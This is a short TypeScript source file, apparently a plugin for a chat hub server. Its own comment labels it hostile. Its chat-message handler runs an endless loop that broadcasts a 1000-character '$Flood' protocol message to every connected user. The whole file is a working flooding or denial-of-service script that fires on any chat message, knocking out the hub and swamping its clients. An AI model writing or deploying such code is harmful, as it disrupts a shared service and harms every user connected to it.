/**
 * Hostile: sends raw protocol data to everybody without end.
 *
 * @module
 */
import vh from "vh";

/** The deed. */
export function OnParsedMsgChat(): number {
  for (;;) vh.SendDataToAll("$Flood " + "x".repeat(1000) + "|", 0, 10);
}
